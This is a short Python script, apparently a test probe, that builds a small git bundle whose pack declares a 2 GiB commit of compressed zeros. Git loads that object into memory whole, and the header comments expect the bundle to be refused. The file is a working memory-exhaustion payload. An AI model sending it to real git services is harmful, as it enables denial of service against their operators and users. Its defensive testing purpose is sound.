# tries: hands in a git bundle of a megabyte with a commit of two gigabytes, which git takes into memory whole
# ends: refused is no whole bundle
# makes: yes
import hashlib
import zlib

SIZE = 2 << 30
PIECE = bytes(1 << 20)


def make(into, host):
    size, head = SIZE, bytearray([0x90 | SIZE & 15])  # a commit
    size >>= 4
    while size:
        head.append(size & 127 | 128)
        size >>= 7
    head[-1] &= 127
    deflate = zlib.compressobj(9, zlib.DEFLATED, 15)
    begin = deflate.compress(PIECE) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(PIECE) + deflate.flush(zlib.Z_FULL_FLUSH)
    pack = b"PACK" + (2).to_bytes(4, "big") + (1).to_bytes(4, "big") + bytes(head) + begin + again * (SIZE // len(PIECE) - 1)
    refs = b"# v2 git bundle\n" + b"1" * 40 + b" HEAD\n\n"
    (into / "answer.bundle").write_bytes(refs + pack + hashlib.sha1(pack).digest())
    return into / "answer.bundle"
